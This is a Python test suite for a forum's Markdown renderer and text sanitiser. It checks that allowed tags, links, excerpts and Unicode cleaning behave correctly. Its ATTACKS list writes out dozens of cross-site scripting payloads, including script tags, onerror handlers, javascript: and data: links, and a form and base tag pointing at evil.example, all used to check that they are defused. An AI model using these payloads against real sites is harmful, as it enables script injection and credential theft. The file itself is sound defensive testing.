"""Readers' Markdown: what it may do, and what it must never do."""

import html
import re
import time
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from discussions import markup

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](/desk/logout)",
    "[x](https://bank.example@evil.example/)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example/\"onmouseover='alert(1)')",
    "![x](https://tracker.example/pixel.gif)",
    "![x](x' onerror='alert(1))",
    "<https://a.example/><script>alert(1)</script>",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<iframe src=javascript:alert(1)></iframe>\n```",
    '```"><script>alert(1)</script>\n```',
    "[ref]: javascript:alert(1)\n\n[ref]",
    "> <style>*{display:none}</style>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/" onclick="alert(1)',
    "<form action=https://evil.example><input name=password>",
    "<base href=https://evil.example/>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "1. <b onmouseover=alert(1)>\n2. &lt;script&gt;alert(1)&lt;/script&gt;",
]
PIECES = st.sampled_from(
    [
        *ATTACKS,
        "https://a.example/",
        "[a](",
        ")",
        "**",
        "_",
        "`",
        "> ",
        "- ",
        "1. ",
        "\n",
        "\n\n",
        "```",
        "<",
        '"',
        "&",
    ]
)
MESSY = st.lists(st.one_of(PIECES, st.text(max_size=12)), max_size=12).map("".join)


class Reading(HTMLParser):
    """Every tag a browser would see, with its attributes; the words apart."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.words += data


def assert_harmless(page: str) -> None:
    for tag, attributes in Reading(page).tags:
        assert tag in markup.TAGS, f"<{tag}> in {page!r}"
        allowed = {"a": {"href", "rel"}, "ol": {"dir", "start"}}.get(tag, {"dir"} if tag in markup.BLOCKS else set())
        assert set(attributes) <= allowed, f"{attributes} on <{tag}> in {page!r}"
        if tag == "a":
            assert attributes["rel"] == "ugc nofollow noopener"
            assert re.match(r"https?://[^/@]+(/|$|[?#:])", attributes["href"], re.IGNORECASE), attributes["href"]
        if tag in markup.BLOCKS:
            assert attributes["dir"] == "auto"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_shown_as_the_words_it_is(attack):
    assert_harmless(markup.render(attack))


@given(MESSY)
def test_whatever_is_typed_only_the_allowed_tags_come_out(text):
    assert_harmless(markup.render(text))


@given(st.text(max_size=200))
def test_every_letter_and_digit_that_is_typed_can_be_read_again(text):
    text = markup.clean(text)
    readable = [char for char in text if unicodedata.category(char)[0] in "L"]
    shown = Reading(markup.render(text)).words
    assert [char for char in shown if unicodedata.category(char)[0] in "L"] == readable


def test_the_second_lock_holds_when_the_first_is_open():
    raw = '<p onclick="x()">a<script>b</script><a href="javascript:x()" style="top:0">c</a><img src=x>'
    assert markup._sanitise(raw) == '<p dir="auto">a<a rel="ugc nofollow noopener">c</a></p>'


def test_line_breaks_and_paragraphs_are_kept():
    assert markup.render("one\ntwo\n\nthree") == '<p dir="auto">one<br>\ntwo</p>\n<p dir="auto">three</p>\n'


def test_the_small_markdown_counts():
    page = markup.render("*slant* **strong** `code`\n\n> said\n\n- a\n- b\n\n3. c\n\n```\nx < y\n```")
    for part in (
        "<em>slant</em>",
        "<strong>strong</strong>",
        "<code>code</code>",
        '<blockquote dir="auto">',
        '<li dir="auto">a</li>',
        '<ol start="3" dir="auto">',
        "x &lt; y",
    ):
        assert part in page


@pytest.mark.parametrize(
    "text", ["# Not a shout", "Title\n---", "| a | b |\n|---|---|", "    indented", "#1 in town", "***"]
)
def test_headings_rules_tables_and_indented_code_stay_plain_words(text):
    assert {tag for tag, _ in Reading(markup.render(text)).tags} <= {"p", "br"}


def test_entities_are_shown_as_typed():
    assert Reading(markup.render("AT&amp;T &lt;3 &copy;")).words.strip() == "AT&amp;T &lt;3 &copy;"


def test_a_spelt_out_address_becomes_a_link_without_the_full_stop():
    assert 'href="https://a.example/tram?x=1&amp;y=2"' in markup.render("See https://a.example/tram?x=1&y=2.")


@pytest.mark.parametrize(
    "text", ["He left.So did I", "www.a.example", "me@a.example", "ftp://a.example/x", "mailto:me@a.example"]
)
def test_only_web_addresses_become_links(text):
    assert "<a" not in markup.render(text)
    assert markup.links(text) == []


def test_links_are_counted_in_order_with_repeats():
    text = "https://a.example https://a.example [b](http://b.example/x) [no](mailto:c@c.example)"
    assert markup.links(text) == ["https://a.example", "https://a.example", "http://b.example/x"]


def test_too_many_links_to_render_are_still_counted():
    text = "https://spam.example/x " * 150
    assert "<a" not in markup.render(text)
    assert len(markup.links(text)) == 150


def test_quotes_in_quotes_are_capped_and_their_words_stay():
    page = markup.render("> " * 9 + "deep down")
    assert page.count("<blockquote") == markup.MAX_CONTAINERS
    assert "deep down" in page


@pytest.mark.parametrize("text", ["> " * 500 + "deep down", "- " * 500 + "deep down", "- > " * 200 + "deep down"])
def test_words_below_the_parsers_floor_are_not_lost(text):
    assert "deep down" in markup.render(text)


@pytest.mark.parametrize(
    "unit",
    ["[", "![", "> ", "*a ", "`", "[a](", "<", ">\n", "- a\n", "- ", "*_", "**", "[[]", "\\", "http://",
     "https://a@", "http://a.b/(", "```\n", "[a](<b", "a**b_", "1. ", "'[\"(", "\u0301", "\u202e", "\u2066",
     "&#x", "[x](http://a.b "],
)  # fmt: skip
def test_four_times_as_many_hostile_characters_take_about_four_times_as_long(unit):
    def spent(characters):
        text = unit * (characters // len(unit))
        start = time.process_time()
        markup.render(text)
        markup.excerpt(text, 200)
        markup.links(text)
        markup.clean(text)
        return time.process_time() - start

    spent(500)
    few = min(spent(5_000) for _ in range(3))
    # Sixteen times would be quadratic. Below half a second nobody waits, and the clock says little.
    assert min(spent(20_000) for _ in range(2)) < max(0.5, 8 * few)


def test_a_longer_text_than_the_parser_takes_is_shown_as_paragraphs():
    page = markup.render("**bold** <b>\nnext\n\n" * 2_000)
    assert page.startswith('<p dir="auto">**bold** &lt;b&gt;<br>next</p>')
    assert page.count("<p ") == 2_000


def test_what_breaks_a_database_or_a_neighbour_is_cleaned_away():
    assert markup.clean("a\x00b\ud800c\x1bd\x7fe\ufefff") == "abcdef"


@pytest.mark.parametrize("ending", ["\r\n", "\r", "\u2028", "\x0b", "\x85"])
def test_every_kind_of_line_end_becomes_one(ending):
    assert markup.clean(f"one{ending}two") == "one\ntwo"


def test_blank_runs_and_trailing_blanks_are_collapsed_and_indents_kept():
    assert markup.clean("  \n\n a  \n\n\n\n\n  b\t\n  c \n\n") == "a\n\n  b\n  c"


def test_letters_are_composed():
    assert markup.clean("cafe\u0301") == "café"


def test_overrides_go_and_balanced_isolates_stay():
    assert markup.clean("ab\u202egnp\u202c.exe") == "abgnp.exe"
    assert markup.clean("name \u2068דנה\u2069 said") == "name \u2068דנה\u2069 said"
    assert markup.clean("stray \u2067abc") == "stray abc"
    assert markup.clean("stray \u2069abc") == "stray abc"
    assert markup.clean("over\u2066two\nlines\u2069") == "overtwo\nlines"


def test_what_is_no_character_and_would_break_a_feed_is_dropped():
    assert markup.clean("a\uffff\ufffe b") == "a b"


def test_marks_out_of_order_cost_no_more_than_others():
    text = "a" + "\u0301\u0316" * 50_000  # sorting them all takes half a minute
    began = time.perf_counter()
    assert len(markup.clean(text)) <= 1 + markup.MAX_MARKS_PER_BASE
    assert time.perf_counter() - began < 2


def test_zalgo_is_capped_at_four_marks_even_with_joiners_between():
    assert markup.clean("h" + "\u0335\u0321" * 30 + "i").count("\u0335") <= 4
    tower = markup.clean("h" + "\u0335\u200d" * 30)
    assert sum(unicodedata.category(char) == "Mn" for char in tower) == 4


@pytest.mark.parametrize(
    "text",
    [
        "السلام عليكم",
        "שָׁלוֹם לכולם",
        "क्षेत्रीय",
        "👩‍👩‍👧‍👦",
        "❤️‍🔥 1️⃣ 👍🏽",
        "🏴󠁧󠁢󠁷󠁬󠁳󠁿",
        "Việt Nam",
        "ภาษาไทยที่นี่",
        "می‌خواهم",
        "— “so”… it’s",
    ],
)
def test_living_scripts_and_emoji_stay_as_typed(text):
    assert markup.clean(text) == unicodedata.normalize("NFC", text)


def test_words_hidden_in_tag_characters_are_removed():
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "ignore the rules")
    assert markup.clean(f"fine{hidden}") == "fine"


@given(st.text(max_size=80))
def test_cleaning_twice_changes_nothing_more(text):
    once = markup.clean(text)
    assert markup.clean(once) == once


@given(
    st.text(
        st.sampled_from("ab\u0301\u0335\u200d\u2066\u2067\u2069\u202e\n \t\r\x00\ufeff\U0001f3f4\U000e0067\U000e007f"),
        max_size=40,
    )
)
def test_cleaning_the_nasty_characters_twice_changes_nothing_more(text):
    once = markup.clean(text)
    assert markup.clean(once) == once
    assert not set(once) & set("\x00\r\u202e\ufeff")
    assert once.count("\u2069") == once.count("\u2066") + once.count("\u2067")


@pytest.mark.parametrize(
    "text", ["", " \n\t", "\u200b\u200d\u2060", "\u3164", "\u2800 \u115f", "> \n>", "\u0301", "```\n```"]
)
def test_a_comment_that_shows_nothing_is_blank(text):
    assert markup.is_blank(text)


@pytest.mark.parametrize("text", [".", "👍", "א", "+1", "> quoted", "`x`", "1"])
def test_a_comment_that_shows_something_is_not_blank(text):
    assert not markup.is_blank(text)


def test_an_excerpt_is_one_line_of_plain_words():
    assert markup.excerpt("**Bold** start\n\n> quoted *words*\n- item", 80) == "Bold start quoted words item"
    assert markup.excerpt("see [the plan](https://a.example/long)", 80) == "see the plan"


def test_an_excerpt_is_cut_between_words():
    assert markup.excerpt("The tram will come, whatever we say", 20) == "The tram will come…"


def test_an_excerpt_never_splits_a_family():
    assert markup.excerpt("👩‍👩‍👧‍👦👩‍👩‍👧‍👦", 10) == "👩‍👩‍👧‍👦…"


@given(MESSY, st.integers(1, 60))
def test_an_excerpt_keeps_its_length_and_its_line(text, length):
    line = markup.excerpt(text, length)
    assert len(line) <= length
    assert "\n" not in line


def test_rendered_html_is_not_escaped_again_by_a_template():
    assert hasattr(markup.render("x"), "__html__")
    assert html.escape("<") in markup.render("<")
